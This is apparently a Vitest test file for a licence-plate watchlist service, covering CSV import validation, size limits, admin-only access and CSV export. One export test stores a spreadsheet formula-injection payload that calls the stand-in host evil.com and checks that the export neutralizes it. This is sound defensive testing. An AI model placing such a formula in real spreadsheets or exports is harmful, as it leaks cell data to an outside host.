import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { type PlateInstallation, startPlateInstallation } from '../test-plate-installation.ts';

let installation: PlateInstallation;
beforeAll(async () => {
  installation = await startPlateInstallation(inject('postgresUrl'));
});
afterAll(() => installation?.close());
beforeEach(() => installation.test.db.deleteFrom('watchlistEntry').execute());

const importing = (body: string, { query = '', token = installation.admin } = {}) =>
  installation.test.call('POST', `/lpr/watchlist/import${query}`, {
    token,
    body,
    headers: { 'content-type': 'text/csv' },
  });
const listed = async () =>
  (await installation.test.call('GET', '/lpr/watchlist?limit=1000', { token: installation.admin })).body.items as {
    plate: string;
    note: string | null;
  }[];
const exported = async (query = '') => {
  const reply = await installation.test.app.inject({
    method: 'GET',
    url: `/lpr/watchlist/export${query}`,
    headers: { authorization: `Bearer ${installation.admin}` },
  });
  return { text: reply.payload, headers: reply.headers };
};

describe('importing a watchlist', () => {
  it('adds all entries, and never changes one that is listed', async () => {
    await installation.watch('OLD1', { note: 'the first note' });
    const file = 'plate,kind,label,note\nnew-1,watch,Anna,\nOLD1,ignore,,another note\nNEW2,ignore,,\n';
    const trial = await importing(file, { query: '?dry_run=1' });
    expect(trial.body).toEqual({ added: 2, skipped: 1, dry_run: true });
    expect(await listed()).toHaveLength(1);
    expect((await importing(file)).body).toEqual({ added: 2, skipped: 1, dry_run: false });
    expect(await listed()).toMatchObject([
      { plate: 'NEW1', kind: 'watch', label: 'Anna' },
      { plate: 'NEW2', kind: 'ignore' },
      { plate: 'OLD1', kind: 'watch', note: 'the first note' },
    ]);
  });

  it('names each invalid line and imports nothing', async () => {
    const reply = await importing('plate,color\nGOOD1,\n---,\nGOOD2,red\n');
    expect([reply.status, reply.body.type]).toEqual([422, '/problems/invalid']);
    expect(reply.body.errors).toMatchObject([
      { pointer: '/lines/3/plate', reason: { code: 'plate-without-characters' } },
      { pointer: '/lines/4/color', reason: { code: 'color-format' } },
    ]);
    expect(await listed()).toEqual([]);
  });

  it('takes a hundred thousand lines at once, and refuses one more', async () => {
    const lines = Array.from({ length: 100_000 }, (_, n) => `P${n}`);
    expect((await importing(`plate\n${lines.join('\n')}\n`)).body).toMatchObject({ added: 100_000, skipped: 0 });
    const more = await importing(`plate\n${lines.join('\n')}\nONE1\n`);
    expect([more.status, more.body.errors[0].reason.code]).toEqual([422, 'csv-too-many-lines']);
    const { text } = await exported();
    expect(text.split('\r\n')).toHaveLength(100_002);

    const full = {
      status: 409,
      body: { type: '/problems/watchlist-full', detail: expect.stringContaining('Nothing was added') },
    };
    expect(await importing('plate\nONE1\n')).toMatchObject(full);
    expect(await installation.watch('ONE1')).toMatchObject(full);
    expect((await exported()).text).toBe(text);
  });

  it.each([
    ['', 422],
    ['a\0b', 422],
    ['"', 422],
    [`plate\n${'A'.repeat(17 * 1024 * 1024)}`, 413],
  ])('refuses a body of %#', async (body, status) => expect((await importing(body)).status).toBe(status));

  it('refuses JSON, and users who are not administrators', async () => {
    const json = await installation.test.call('POST', '/lpr/watchlist/import', {
      token: installation.admin,
      body: { plate: 'A1' },
    });
    expect(json.status).toBe(415);
    const { token } = await installation.signIn('viewer', { capabilities: ['view_plates'] });
    expect((await importing('plate\nA1\n', { token })).status).toBe(403);
  });
});

describe('exporting a watchlist', () => {
  it('neutralizes formulas, and can be imported again', async () => {
    const note = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await installation.watch('AB1', { label: '+Anna', note, color: '#FF0000' });
    await installation.watch('CD2', { kind: 'ignore', notify: false });
    const before = await listed();
    const { text, headers } = await exported();
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toBe('attachment; filename="watchlist.csv"');
    expect(text).toContain(`AB1,watch,'+Anna,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",#FF0000,yes\r\n`);
    await installation.test.db.deleteFrom('watchlistEntry').execute();
    expect((await importing(text)).body).toMatchObject({ added: 2 });
    const strip = (entries: object[]) => entries.map((entry) => ({ ...entry, id: '', created_at: '' }));
    expect(strip(await listed())).toEqual(strip(before));
  });

  it('contains one list only when asked to', async () => {
    await importing('plate,kind\nA1,watch\nB2,ignore\n');
    expect((await exported('?kind=ignore')).text).toBe(
      '\uFEFFplate,kind,label,note,color,notify\r\nB2,ignore,,,,yes\r\n',
    );
  });
});
